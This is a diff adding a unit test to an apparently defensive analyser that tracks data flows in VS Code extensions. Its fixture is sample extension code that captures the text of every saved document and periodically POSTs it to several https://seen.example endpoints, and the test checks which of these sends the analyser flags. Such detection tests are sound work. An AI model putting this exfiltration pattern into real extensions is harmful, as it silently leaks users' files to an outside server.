@@ -51,6 +51,25 @@ class ListsAndFilesTest {
     }
 
     @Test
+    void aMapHoldsTheDataOfItsKeys() {
+        Analysis analysis = Analysis.ofActivate("""
+                const seen = new Map();
+                vscode.workspace.onDidSaveTextDocument(saved => seen.set(saved.getText(), 1));
+                setInterval(() => {
+                  fetch('https://seen.example/entries', { method: 'POST', body: JSON.stringify([...seen]) });
+                  fetch('https://seen.example/keys', { method: 'POST', body: [...seen.keys()].join() });
+                  fetch('https://seen.example/values', { method: 'POST', body: [...seen.values()].join() });
+                  seen.forEach((count, text) => fetch('https://seen.example/each', { method: 'POST', body: text }));
+                  seen.forEach(count => fetch('https://seen.example/count', { method: 'POST', body: String(count) }));
+                }, 60000);
+                """);
+
+        assertThat(analysis.destinations("editor-document", "network-send"))
+                .containsExactlyInAnyOrder(
+                        "https://seen.example/entries", "https://seen.example/keys", "https://seen.example/each");
+    }
+
+    @Test
     void followsAFileThatIsRenamedBeforeItIsRead() {
         Analysis analysis = Analysis.ofActivate("""
                 vscode.workspace.onDidSaveTextDocument(saved => fs.appendFileSync('/tmp/log', saved.getText()));
